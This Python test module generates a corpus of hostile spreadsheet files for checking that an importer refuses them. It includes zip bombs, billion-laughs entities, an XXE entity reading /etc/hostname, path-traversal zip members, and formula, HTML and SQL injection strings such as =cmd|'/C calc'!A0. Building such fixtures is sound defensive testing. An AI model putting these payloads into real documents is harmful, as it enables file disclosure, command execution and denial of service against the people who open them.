"""Hostile and odd files in the formats of office programs: bombs, lies, loops, entities, names."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace

from tests.corpus.archives import Member, archive, huge, member

TABLE, REFUSE = "table", "refuse"
HEADINGS = ("STT", "Họ và tên", "CCCD", "Số điện thoại")
SHEET, STRINGS, BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
XML = '<?xml version="1.0" encoding="UTF-8"?>'
_DTD = "<!DOCTYPE x ["
LAUGHS = (
    _DTD
    + '<!ENTITY a "lollollollol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)
OUTSIDE = _DTD + '<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
INJECTIONS = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "\t=1+1",
    '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
    "<script>alert(1)</script>",
    "'; DROP TABLE worker;--",
    "{{7*7}}",
    "${7*7}",
    "Nguyễn\u202eVăn",
    "Ngu\u200byễn",
    "\uff1d1+1",
)


@dataclass(frozen=True, slots=True)
class Odd:
    """A file of the corpus: its name, its bytes, what is odd about it, and what should come of it."""

    name: str
    data: bytes
    odd: str
    expected: str


def cell(address: str, value: object, kind: str = "inlineStr", style: str = "") -> str:
    """The XML of one cell."""
    start = f'<c{f" r={chr(34)}{address}{chr(34)}" if address else ""}{style} t="{kind}">'
    if kind != "inlineStr":
        return f"{start}<v>{value}</v></c>"
    text = str(value).replace("&", "&amp;").replace("<", "&lt;")
    return f"{start}<is><t>{text}</t></is></c>"


def list_rows(extra: str = "", people: int = 5) -> str:
    """A list of invented people from A1, then more rows."""
    lines = ['<row r="1">' + "".join(cell(f"{'ABCD'[i]}1", text) for i, text in enumerate(HEADINGS)) + "</row>"]
    for number in range(people):
        row = number + 2
        values = (f"Nguyễn Văn {number}", f"0790990000{number:02d}", f"09000000{number:02d}")
        cells = "".join(cell(f"{letter}{row}", value) for letter, value in zip("BCD", values, strict=True))
        lines.append(f'<row r="{row}">{cell(f"A{row}", number + 1, "n")}{cells}</row>')
    return "".join(lines) + extra


def with_cell(address: str, value: object, kind: str = "inlineStr", style: str = "") -> str:
    """The list and one more cell in a row of its own."""
    row = address.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return sheet(list_rows(f'<row r="{row}">{cell(address, value, kind, style)}</row>'))


def sheet(body: str, dimension: str = "A1:D6", before: str = "", after: str = "") -> str:
    """A worksheet part."""
    content = f'<dimension ref="{dimension}"/><sheetData>{body}</sheetData>{after}'
    return f"{XML}{before}<worksheet {_MAIN}>{content}</worksheet>"


def strings(content: str = "<si><t>Họ tên</t></si>", count: str = "1", before: str = "") -> str:
    """A shared strings part."""
    return f'{XML}{before}<sst {_MAIN} count="{count}" uniqueCount="{count}">{content}</sst>'


def book(sheets: str = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>', before: str = "") -> str:
    """A workbook part."""
    return f'{XML}{before}<workbook {_MAIN} xmlns:r="{_OFFICE}"><sheets>{sheets}</sheets></workbook>'


def _relations(*pairs: tuple[str, str]) -> str:
    entries = "".join(
        f'<Relationship Id="rId{n}" Type="{_OFFICE}/{kind}" Target="{target}"/>'
        for n, (kind, target) in enumerate(pairs, 1)
    )
    return f'{XML}<Relationships xmlns="{_PACKAGE}/relationships">{entries}</Relationships>'


def _types() -> str:
    parts = (("workbook", "sheet.main"), ("worksheets/sheet1", "worksheet"), ("sharedStrings", "sharedStrings"))
    named = "".join(f'<Override PartName="/xl/{part}.xml" ContentType="{_KIND}.{kind}+xml"/>' for part, kind in parts)
    rels = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    plain = '<Default Extension="xml" ContentType="application/xml"/>'
    return f'{XML}<Types xmlns="{_PACKAGE}/content-types">{rels}{plain}{named}</Types>'


_STYLES = (
    f'{XML}<styleSheet {_MAIN}><fonts count="1"><font/></fonts><cellXfs count="2">'
    '<xf numFmtId="0" fontId="0"/><xf numFmtId="14" fontId="0" applyNumberFormat="1"/></cellXfs></styleSheet>'
)


def members(
    content: str | bytes | None = None, target: str = "worksheets/sheet1.xml", **parts: str | bytes
) -> list[Member]:
    """The members of a workbook; ``strings`` and ``book`` replace those parts."""
    linked = (("worksheet", target), ("sharedStrings", "sharedStrings.xml"), ("styles", "styles.xml"))
    return [
        member("[Content_Types].xml", _types()),
        member("_rels/.rels", _relations(("officeDocument", BOOK))),
        member(BOOK, parts.get("book", book())),
        member("xl/_rels/workbook.xml.rels", _relations(*linked)),
        member(STRINGS, parts.get("strings", strings())),
        member("xl/styles.xml", _STYLES),
        member(SHEET, sheet(list_rows()) if content is None else content),
    ]


def xlsx(content: str | bytes | None = None, **parts: str) -> bytes:
    """A workbook with that sheet."""
    return archive(members(content, **parts))


def _replaced(name: str, new: Member) -> bytes:
    return archive([new if one.name == name else one for one in members()])


GOOD = xlsx()
_WIDE_ROW = ("<row>" + '<c t="inlineStr"><is><t>AAAAAAAAAAAAAAAA</t></is></c>' * 100 + "</row>").encode()
_SHEET_START = f"{XML}<worksheet {_MAIN}><sheetData>".encode()
_SHEET_END = b"</sheetData></worksheet>"


def bombs() -> Iterator[Odd]:
    """Small files that inflate to a gibibyte, or make a reader multiply what it read."""
    rows = huge(SHEET, _SHEET_START, _WIDE_ROW, _SHEET_END)
    yield Odd("bomb_sheet.xlsx", _replaced(SHEET, rows), "a sheet of 1 GiB of rows", REFUSE)
    spaces = huge(SHEET, _SHEET_START, b" ", _SHEET_END)
    yield Odd("bomb_space.xlsx", _replaced(SHEET, spaces), "1 GiB of white space in a sheet", REFUSE)
    text = huge(STRINGS, f"{XML}<sst {_MAIN}><si><t>".encode(), b"A", b"</t></si></sst>")
    yield Odd("bomb_string.xlsx", _replaced(STRINGS, text), "one shared string of 1 GiB", REFUSE)
    picture = huge("xl/media/image1.png", b"", b"\0", b"")
    yield Odd("bomb_media.xlsx", archive([*members(), picture]), "an unused picture of 1 GiB", REFUSE)
    yield Odd("bomb_size_lie.xlsx", _replaced(SHEET, rows.lying(1000)), "claims 1,000 bytes, inflates to 1 GiB", REFUSE)
    many = "".join("<row>" + cell("", 0, "s") * 50 + "</row>" for _ in range(4000))
    reuse = xlsx(sheet(many), strings=strings(f"<si><t>{'A' * 32767}</t></si>"))
    yield Odd("bomb_string_reuse.xlsx", reuse, "200,000 cells share one string of 32,767 letters", REFUSE)
    yield Odd("cell_10MB.xlsx", xlsx(with_cell("B7", "A" * 10_000_000)), "one cell of 10 MB", REFUSE)


def addresses() -> Iterator[Odd]:
    """Cells and dimensions where no list has any."""
    for name, dimension in (("full", "A1:XFD1048576"), ("garbage", "A1:ZZZZZZ99999999999999"), ("reversed", "D6:A1")):
        content = xlsx(sheet(list_rows(), dimension))
        yield Odd(f"dimension_{name}.xlsx", content, f"says its dimension is {dimension}", TABLE)
    for address in ("XFD1048576", "XFD60000", "A4294967295", "A0", "ZZZZZZZZ9"):
        yield Odd(f"cell_{address}.xlsx", xlsx(with_cell(address, "x")), f"a value in {address}", REFUSE)
    far = with_cell("XFD1048576", "x")
    for name, written in (("single", "r='XFD1048576'"), ("spaced", 'r = "XFD1048576"'), ("lower", 'r="xfd1048576"')):
        yield Odd(
            f"cell_far_{name}.xlsx",
            xlsx(far.replace('r="XFD1048576"', written)),
            f"a value in a cell written {written}",
            REFUSE,
        )
    yield Odd("cell_stray.xlsx", xlsx(with_cell("A1048576", " ")), "a blank in the last row", TABLE)
    twice = '<row r="3">' + cell("B3", "khác") + '</row><row r="2">' + cell("B2", "khác") + "</row>"
    yield Odd("rows_twice.xlsx", xlsx(sheet(list_rows(twice))), "rows given twice, out of order", TABLE)
    bare = "".join(
        "<row>" + "".join(cell("", text) for text in row) + "</row>" for row in (HEADINGS, ("1", "A", "2", "3"))
    )
    yield Odd("no_addresses.xlsx", xlsx(sheet(bare)), "cells and rows without address", TABLE)
    for count in (2**32 - 1, 2**64 - 1):
        lie = xlsx(strings=strings(count=str(count)))
        yield Odd(f"strings_claim_{count}.xlsx", lie, f"claims {count} shared strings", REFUSE)
    for index in (99999999, -1):
        yield Odd(f"string_{index}.xlsx", xlsx(with_cell("B7", index, "s")), f"shared string {index}", REFUSE)
    for serial in ("1e308", "NaN", "-1", "INF", "2958466", "60", "9" * 4000):
        content = xlsx(with_cell("A7", serial, "n", ' s="1"'))
        yield Odd(f"date_{serial[:8]}.xlsx", content, f"a date of serial {serial[:8]}", TABLE)
    yield Odd("date_text.xlsx", xlsx(with_cell("A7", "abc", "n", ' s="1"')), "a date that is no number", REFUSE)
    yield Odd("style_far.xlsx", xlsx(with_cell("A7", 44000, "n", ' s="99999999"')), "a style out of range", TABLE)


def markup() -> Iterator[Odd]:
    """XML that attacks its parser."""
    entity = '<row r="7"><c r="B7" t="inlineStr"><is><t>&j;</t></is></c></row>'
    laughs = xlsx(sheet(list_rows(entity), before=LAUGHS))
    yield Odd("laughs_sheet.xlsx", laughs, "billion laughs in a sheet", REFUSE)
    laughs = xlsx(strings=strings("<si><t>&j;</t></si>", before=LAUGHS))
    yield Odd("laughs_strings.xlsx", laughs, "billion laughs in shared strings", REFUSE)
    laughs = xlsx(book=book('<sheet name="&j;" sheetId="1" r:id="rId1"/>', LAUGHS))
    yield Odd("laughs_book.xlsx", laughs, "billion laughs in a sheet's name", REFUSE)
    square = f'{_DTD}<!ENTITY a "{"A" * 50000}">]>'
    body = list_rows(entity.replace("&j;", "&a;" * 20000))
    yield Odd("laughs_square.xlsx", xlsx(sheet(body, before=square)), "an entity of 50 kB, 20,000 times", REFUSE)
    body = list_rows(entity.replace("&j;", "&xxe;"))
    yield Odd("outside_file.xlsx", xlsx(sheet(body, before=OUTSIDE)), "an entity that reads a file", REFUSE)
    external = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">'
    yield Odd("outside_dtd.xlsx", xlsx(sheet(list_rows(), before=external)), "a document type from outside", REFUSE)
    deep = "<a>" * 1_000_000 + "</a>" * 1_000_000
    yield Odd("deep_sheet.xlsx", xlsx(sheet(list_rows(), after=deep)), "a million nested elements", REFUSE)
    deep = "<si>" + "<r>" * 500_000 + "<t>x</t>" + "</r>" * 500_000 + "</si>"
    yield Odd("deep_string.xlsx", xlsx(strings=strings(deep)), "500,000 nested runs in a string", REFUSE)
    wide = "<x " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/>"
    yield Odd("attributes.xlsx", xlsx(sheet(list_rows(), after=wide)), "200,000 attributes nobody reads", TABLE)
    utf16 = sheet(list_rows()).replace("UTF-8", "UTF-16").encode("utf-16")
    yield Odd("sheet_utf16.xlsx", xlsx(utf16), "a sheet in UTF-16, where a document type could hide", REFUSE)
    bad = entity.replace("&j;", "&#0;&#xD800;&#x110000;")
    yield Odd("bad_references.xlsx", xlsx(sheet(list_rows(bad))), "characters that XML forbids", REFUSE)
    yield Odd("escapes.xlsx", xlsx(with_cell("B7", "a_x0000_b_xD800_c_x0008_")), "escaped NUL and surrogate", TABLE)
    yield Odd("unclosed.xlsx", xlsx(sheet(list_rows())[:-60]), "a sheet cut short", REFUSE)
    named = book('<sheet name="&lt;img src=x onerror=alert(1)&gt;" sheetId="1" r:id="rId1"/>')
    yield Odd("sheet_name.xlsx", xlsx(book=named), "a sheet's name is HTML", TABLE)
    rows = "".join(f'<row r="{7 + n}">{cell(f"B{7 + n}", text)}</row>' for n, text in enumerate(INJECTIONS))
    yield Odd("injections.xlsx", xlsx(sheet(list_rows(rows))), "names that are formulas, HTML and SQL", TABLE)


def containers() -> Iterator[Odd]:
    """Zip archives that lie about themselves, and other things named .xlsx."""
    plain = members()
    tricks: dict[str, tuple[Iterable[Member], str]] = {
        "double": ([*plain, member(SHEET, sheet(list_rows(people=1)))], "two members of one name"),
        "climbing": ([*plain, member("../../../escaped.txt", "x")], "a member's name climbs out"),
        "absolute": ([*plain, member("/escaped.txt", "x")], "a member's name starts at the root"),
        "locked": ([replace(one, flags=0x801) for one in plain], "members flagged as encrypted"),
        "method": ([replace(one, method=99) for one in plain], "an unknown method of compression"),
        "crowd": ((Member(f"xl/worksheets/s{n}.xml", b"\x03\0", 0, 0) for n in range(60_000)), "60,000 members"),
        "typeless": (plain[1:], "no content types"),
        "unrelated": ([one for one in plain if not one.name.endswith("xml.rels")], "no relations"),
        "target_path": (members(target="../../../../../etc/passwd"), "a sheet's target climbs out"),
        "target_http": (members(target="http://127.0.0.1:9/sheet1.xml"), "a sheet's target is an address"),
    }
    for name, (parts, odd) in tricks.items():
        yield Odd(f"zip_{name}.xlsx", archive(parts), odd, REFUSE)
    same = "".join(f'<sheet name="S{n}" sheetId="{n + 1}" r:id="rId1"/>' for n in range(20_000))
    yield Odd("sheets_20000.xlsx", xlsx(book=book(same)), "20,000 sheets on one part", REFUSE)
    yield Odd("zip_half.xlsx", GOOD[: len(GOOD) // 2], "cut in half", REFUSE)
    yield Odd("zip_tail.xlsx", GOOD[:-10], "without its last ten bytes", REFUSE)
    yield Odd("zip_before.xlsx", b"JUNK" * 256 + GOOD, "junk in front", REFUSE)
    yield Odd("zip_behind.xlsx", GOOD + bytes(5000), "zeros behind", TABLE)
    at = GOOD.find(SHEET.encode()) + 60
    flipped = GOOD[:at] + bytes([GOOD[at] ^ 0xFF]) + GOOD[at + 1 :]
    yield Odd("zip_flipped.xlsx", flipped, "one byte of a member flipped", REFUSE)
    magic = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield Odd("ole_zeros.xls", magic + bytes(504), "an OLE header and zeros", REFUSE)
    yield Odd("ole_loop.xls", _looping(magic), "an OLE directory that loops", REFUSE)
    biff2 = bytes.fromhex("0900040002001000020007 00ffffff000000000a000000".replace(" ", ""))
    yield Odd("biff2.xls", biff2, "a bare BIFF2 stream", REFUSE)
    for name, data in (
        ("pdf", b"%PDF-1.4\n%%EOF"),
        ("png", b"\x89PNG\r\n\x1a\n" + bytes(200)),
        ("elf", b"\x7fELF" + bytes(500)),
    ):
        yield Odd(f"{name}.xlsx", data, f"{name} named .xlsx", REFUSE)
    for suffix in ("xls", "csv", "ods"):
        yield Odd(f"xlsx.{suffix}", GOOD, f"xlsx named .{suffix}", TABLE)


def _looping(magic: bytes) -> bytes:
    header = magic + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + bytes(4) + b"\xff" * 432
    return header + struct.pack("<128I", *([1] * 128)) + b"R\0o\0o\0t\0" + bytes(504)


_ODS_NAMES = "".join(
    f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
)


def _ods(rows: str, before: str = "") -> bytes:
    listed = "".join(
        "<table:table-row>" + "".join(map(_ods_cell, row)) + "</table:table-row>" for row in (HEADINGS, "1abc")
    )
    content = (
        f"{XML}{before}<office:document-content{_ODS_NAMES}><office:body><office:spreadsheet>"
        f'<table:table table:name="S">{listed}{rows}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = f'{XML}<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = (("mimetype", kind), ("META-INF/manifest.xml", manifest), ("content.xml", content))
    return archive(member(name, text) for name, text in parts)


def _ods_cell(text: str, repeat: str = "1") -> str:
    repeated = f'table:number-columns-repeated="{repeat}"'
    return f'<table:table-cell office:value-type="string" {repeated}><text:p>{text}</text:p></table:table-cell>'


def _ods_row(cells: str, repeat: str = "1") -> str:
    return f'<table:table-row table:number-rows-repeated="{repeat}">{cells}</table:table-row>'


def open_documents() -> Iterator[Odd]:
    """OpenDocument: repeats that make billions of cells of nothing."""
    cases: tuple[tuple[str, Callable[[], bytes], str], ...] = (
        ("good", lambda: _ods(""), TABLE),
        (
            "empty tail",
            lambda: _ods(_ods_row('<table:table-cell table:number-columns-repeated="16384"/>', "1048573")),
            TABLE,
        ),
        ("17 G cells", lambda: _ods(_ods_row(_ods_cell("A", "16384"), "1048576")), REFUSE),
        ("a row 10^9 times", lambda: _ods(_ods_row(_ods_cell("A"), "1000000000")), REFUSE),
        ("a cell 2^32 times", lambda: _ods(_ods_row(_ods_cell("A", "4294967295"))), REFUSE),
        ("a cell -1 times", lambda: _ods(_ods_row(_ods_cell("A", "-1"))), REFUSE),
        ("2 G spaces", lambda: _ods(_ods_row(_ods_cell('a<text:s text:c="2000000000"/>b'))), REFUSE),
        ("billion laughs", lambda: _ods(_ods_row(_ods_cell("&j;")), LAUGHS), REFUSE),
        ("outside file", lambda: _ods(_ods_row(_ods_cell("&xxe;")), OUTSIDE), REFUSE),
    )
    for odd, make, expected in cases:
        yield Odd(f"{odd.replace(' ', '_')}.ods", make(), odd, expected)
